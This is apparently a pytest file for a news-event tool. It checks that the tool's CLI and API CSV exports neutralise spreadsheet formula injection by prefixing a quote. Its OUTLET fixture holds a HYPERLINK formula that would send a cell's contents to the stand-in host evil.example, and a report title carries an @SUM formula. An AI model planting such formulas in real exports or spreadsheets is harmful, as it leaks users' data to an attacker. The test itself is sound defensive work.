"""CSV exports never hand a spreadsheet a live formula: an outlet, title or sentence that starts
with =, +, -, @ comes out as text (a leading quote), in `sitrep events --format csv` and in
/api/export.csv alike."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from sitrep.settings import Settings
from sitrep.web.app import create_app

OUTLET = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
REPORT = ("---\ntitle: @SUM(1+1)\npublished: 2024-12-16\n---\n"
          "Russian troops withdrew from Qamishli airport on Monday, residents told the local council.\n")
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def store_url(tmp_path_factory, runner):
    from sitrep.cli import cli

    folder = tmp_path_factory.mktemp("reports")
    (folder / "report.txt").write_text(REPORT, encoding="utf-8")
    url = f"sqlite:///{tmp_path_factory.mktemp('store') / 'csv.db'}"
    result = runner.invoke(cli, ["ingest", str(folder), "--db", url, "--outlet", OUTLET], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return url


def cells(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, "no event in the export"
    return rows


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    live = [(k, v) for row in rows for k, v in row.items() if v and v.startswith(FORMULA_STARTS)]
    assert live == []


def test_cli_csv_quotes_a_formula_outlet(store_url, runner):
    from sitrep.cli import cli

    result = runner.invoke(cli, ["events", "--db", store_url, "--format", "csv"], catch_exceptions=False)
    rows = cells(result.stdout)
    assert_no_formula(rows)
    assert rows[0]["outlet"] == "'" + OUTLET  # kept whole, readable as text


def test_api_csv_export_quotes_a_formula_outlet(store_url):
    client = TestClient(create_app(Settings().with_db(store_url)))
    rows = cells(client.get("/api/export.csv").text)
    assert_no_formula(rows)
    assert rows[0]["source"] == "'" + OUTLET


def test_negative_coordinates_stay_numbers():
    from sitrep.output import spreadsheet_safe

    assert spreadsheet_safe(-3.5) == -3.5
    assert spreadsheet_safe("-3.5 km") == "'-3.5 km"
